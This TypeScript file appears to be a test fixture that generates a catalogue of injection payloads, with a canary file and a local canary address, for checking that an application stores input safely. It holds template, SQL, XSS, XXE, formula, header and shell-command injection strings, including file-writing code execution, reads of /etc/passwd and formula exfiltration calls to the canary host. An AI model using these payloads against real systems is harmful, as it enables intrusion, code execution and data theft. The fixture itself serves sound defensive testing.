/*
 * Two hundred texts that would do something if anything took them for more than text, by what would have to fall for them.
 * Each carries a number by which it is found again; what can be worked out comes to 62615533.
 */

export interface Payload {
  /** `Zq117`. */
  readonly mark: string
  readonly family: string
  readonly text: string
}

/** What an evaluated payload touches. */
export interface Canaries {
  /** A file that must not come to be. */
  readonly file: string
  /** An address at which nobody must call: `127.0.0.1:40123`. */
  readonly address: string
}

/** 7919 × 7907: stands nowhere unless something worked it out. */
export const WORKED_OUT = '62615533'
/** A key that `Object.prototype` must not come to have. */
export const POLLUTION = 'zqPolluted'

const sign = (...codes: readonly number[]) => String.fromCodePoint(...codes)

const FAMILIES: Readonly<Record<string, (canaries: Canaries) => readonly string[]>> = {
  'expressions in ${}': ({ file }) => [
    '${7919*7907}',
    '${environment.variables}',
    `\${environment.constructor.constructor('require("fs").writeFileSync("${file}","")').prototype.constructor('x')}`,
    `\${content.id.constructor.constructor("return process")().mainModule.require("fs").writeFileSync("${file}","")}`,
    '${environment.settings.smtpPassword}',
    '${environment.services.closeCase()}',
    '${content.constructor.assign(content.constructor.prototype,environment.variables.form)}',
    '${content.constructor.freeze(content.constructor.prototype)}',
    '${{7919*7907}}',
    '$${7919*7907}',
    '${'.repeat(300),
    '${jndi:ldap://ADDRESS/a}',
    '${T(java.lang.Runtime).getRuntime().exec("touch FILE")}',
    '`${7919*7907}`',
    '\\${7919*7907}',
  ],
  templates: () => [
    '{{7919*7907}}',
    "{{ range.constructor(\"return global.process.mainModule.require('fs').writeFileSync('FILE','')\")() }}",
    '{{ "".constructor.constructor("return 7919*7907")() }}',
    '{{ runtime }}{{ council }}{{ self }}{{ this }}',
    '{% include "/etc/passwd" %}',
    '{% raw %}{{7919*7907}}{% endraw %}',
    '{% set title = 7919*7907 %}{{ title }}',
    '{# comment #}{{ csrfToken() }}',
    '{{{7919*7907}}}',
    '#{7919*7907}',
    '#{environment.constructor}',
    '<%= 7919*7907 %>',
    '<% require("fs").writeFileSync("FILE","") %>',
    '[[${7919*7907}]]',
    '(#assign x=7919*7907)${x}',
    '@{7919*7907}',
    '{7919*7907}',
    '{name}{complainant.name}{letter}',
    '{#each points}{text}{/each}',
    '{@raw}{#loop}{^not}{/loop}',
    '%{7919*7907}',
    '~[7919*7907]',
    '*{7919*7907}',
    '{{=<% %>=}}<%7919*7907%>',
  ],
  FEEL: () => [
    '= 7919*7907',
    'if true then 7919*7907 else 0',
    'for i in 1..1000000000 return i',
    '{a: 7919*7907}.a',
    'matches("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!","(a+)+$")',
    'get value({}, "constructor")',
    '"; 7919*7907; "',
    'some x in [1..1000000000] satisfies x = 0',
    'string(7919*7907)',
    'function(x) x(x)',
  ],
  SQL: () => [
    "'; drop table facts; --",
    "' or '1'='1",
    '1); delete from audit; --',
    "'); update people set name='zq'; --",
    "' union select hash from api_keys --",
    "\\'; select pg_sleep(20); --",
    '"; drop table cases; --',
    '? ?? :name $1 @p0',
    "'||(select 7919*7907)||'",
    '%_%',
    "' and 1=(select count(*) from sqlite_master) --",
    "E'\\\\047; drop table tasks; --",
    '$$; drop table tasks; $$',
    "x' OR 1=1 /*",
  ],
  'names through which objects inherit': () => [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '__defineGetter__',
    `{"__proto__":{"${POLLUTION}":1}}`,
    `{"constructor":{"prototype":{"${POLLUTION}":1}}}`,
    `__proto__[${POLLUTION}]=1`,
    `constructor.prototype.${POLLUTION}=1`,
    'valueOf',
    '[object Array]',
  ],
  'patterns of replacing': () => [
    "$& $` $' $1 $<name> $$",
    '\\1 \\0 \\k<name>',
    '%s %d %n %x %p',
    '&amp;$&amp;',
    '\\u0024{7919*7907}',
  ],
  'marks of HTML': () => [
    '<script>zq()</script>',
    '</script><script>zq()</script>',
    '<img src=x onerror=zq()>',
    '<img src=//ADDRESS/x>',
    '<svg/onload=zq()>',
    '<svg><animate onbegin=zq() attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=zq()>#x"/></svg>',
    '<math><mtext></mtext><mglyph><style><img src=x onerror=zq()>',
    '<iframe srcdoc="<script>zq()</script>">',
    '<object data="javascript:zq()">',
    '<embed src="javascript:zq()">',
    '<link rel=stylesheet href=//ADDRESS>',
    '<base href="//zq.example/">',
    '<meta http-equiv=refresh content="0;url=//ADDRESS">',
    '<form action="//zq.example"><button>zq</button>',
    '<style>@import "//ADDRESS";</style>',
    '<details open ontoggle=zq()>',
    '<body onload=zq()>',
    '<input autofocus onfocus=zq()>',
    '<a href="javascript:zq()">zq</a>',
    '<!--><img src=x onerror=zq()>-->',
    '<noscript><p title="</noscript><img src=x onerror=zq()>">',
    '</textarea><script>zq()</script>',
    '</title><script>zq()</script>',
    '</option></select><script>zq()</script>',
    '" onmouseover="zq()',
    "' onmouseover='zq()",
    '"><img src=x onerror=zq()>',
    'x" autofocus onfocus="zq()" y="',
    '&lt;script&gt;zq()&lt;/script&gt;',
    '&#60;script&#62;zq()&#60;/script&#62;',
    '\\u003cscript\\u003ezq()\\u003c/script\\u003e',
    '<<script>zq()//<</script>',
    '＜script＞zq()＜/script＞',
    '<scr<script>ipt>zq()</scr</script>ipt>',
    'javascript:zq()',
    'data:text/html,<script>zq()</script>',
    '[zq](javascript:zq())',
    '![zq](x"onerror="zq())',
    '<javascript:zq()>',
  ],
  XML: () => [
    ']]> <![CDATA[<script>zq()</script>]]>',
    '<?xml version="1.0"?><!DOCTYPE zq [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    '<!DOCTYPE zq SYSTEM "http://ADDRESS/zq.dtd">',
    '<!ENTITY % a SYSTEM "http://ADDRESS/a">%a;',
    '</w:t></w:r></w:p><w:p><w:r><w:t>zq',
    '<w:instrText>HYPERLINK "http://ADDRESS"</w:instrText>',
    '<event><string key="zq" value="1"/></event>',
    '<xsl:value-of select="document(\'http://ADDRESS\')"/>',
    '<xi:include href="file:///etc/passwd"/>',
    '&lol9;&#x0;&#xD800;',
  ],
  formulas: () => [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://ADDRESS","zq")',
    '=WEBSERVICE("http://ADDRESS")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=1+1";=1+1;"',
    '＝1+1',
    '"=1+1"',
    '=7919*7907',
    '=IMPORTXML(CONCAT("http://ADDRESS/?v=",A1),"//a")',
    ';=1+1',
  ],
  'lines of headers': () => [
    'a\r\nBcc: zq@zq.example',
    'a\nBcc: zq@zq.example',
    'a\r\n\r\n<script>zq()</script>',
    '%0d%0aSet-Cookie:zq=1',
    'a\r\n.\r\nMAIL FROM:<zq@zq.example>',
    `a${sign(0x2028)}Bcc: zq@zq.example`,
    '=?utf-8?q?=0d=0aBcc:_zq=40zq.example?=',
    'a, zq@zq.example',
    '"a" <zq@zq.example>',
    'a\n.\nQUIT',
  ],
  commands: () => [
    '; touch FILE',
    '| touch FILE',
    '$(touch FILE)',
    '`touch FILE`',
    '&& touch FILE',
    '() { :;}; touch FILE',
    '!!touch FILE',
    '-oProxyCommand=touch FILE',
    '*)(uid=*))(|(uid=*',
    "'] | //* | //*['",
  ],
  'ways and addresses': () => [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '/etc/passwd',
    'file:///etc/passwd',
    'http://ADDRESS/',
    'http://169.254.169.254/latest/meta-data/',
    '\\\\ADDRESS\\share',
    'CON',
  ],
  'signs of all kinds': () => [
    `${sign(0x202e)}exe.fdp${sign(0x2066)}`,
    `${sign(0x202d)}left${sign(0x202c)}${sign(0x2067)}right${sign(0x2069)}`,
    `${sign(0x200b, 0x200c, 0x2060)}no width`,
    `${sign(0xfeff)}mark`,
    `a${sign(0x2028)}b${sign(0x2029)}c`,
    `${sign(0xfffe, 0xffff)} no characters`,
    `${sign(0xe000, 0xf8ff)} private`,
    `${sign(0xe0001, 0xe0062, 0xe007f)} tags`,
    '👨‍👩‍👧‍👦 🧒🏽‍🦽 🏴󠁧󠁢󠁷󠁬󠁳󠁿',
    'аррӏе.com рауpal',
    'ﬁ ﷺ İıſK Å',
    `e${sign(0x301)} é ${sign(0x1100, 0x1161)} 가`,
    `Z${sign(...Array.from({ length: 60 }, (_, n) => 0x300 + n))}`,
    'مرحبا שלום हिन्दी 中文 ไทย',
    `${sign(0x1d54f)}${sign(0x10ffff)}`,
    'tab\there\nand\r\nlines\n\n\n',
  ],
  'signs that control machines': () => [
    `${sign(0x1b)}[2J${sign(0x1b)}]0;zq${sign(7)}`,
    `back${sign(8, 8, 8, 8)}over`,
    `${sign(0x85, 0x9b)}31m`,
    `page${sign(0xc)}feed${sign(0xb)}`,
    `${sign(0x7f)}deleted${sign(1)}`,
  ],
  'much of it': () => [
    'W'.repeat(5_000),
    ' x'.repeat(4_000),
    '\n'.repeat(2_000),
    '('.repeat(3_000),
    '<b>'.repeat(2_000),
  ],
}

/** In the order of the families. */
export function payloads(canaries: Canaries): readonly Payload[] {
  const all = Object.entries(FAMILIES).flatMap(([family, texts]) =>
    texts(canaries).map((text) => ({
      family,
      text: text.replaceAll('ADDRESS', canaries.address).replaceAll('FILE', canaries.file),
    })),
  )
  return all.map(({ family, text }, index) => {
    const mark = `Zq${100 + index}`
    // What works only at the start of a cell or a line stays there.
    return { mark, family, text: family === 'formulas' ? `${text} ${mark}` : `${mark} ${text} ${mark}.` }
  })
}

/** Such as no text may have: each is refused, by name of the field and with what to do. */
export const UNSTORABLE: readonly (readonly [what: string, text: string])[] = [
  ['the sign that ends texts', `before ${sign(0)} after`],
  ['the first half of a sign', `before ${String.fromCharCode(0xd83d)} after`],
  ['the second half of a sign', `before ${String.fromCharCode(0xdc00)} after`],
]

/** Longer than any field. */
export const A_MILLION = 'a'.repeat(1_000_000)
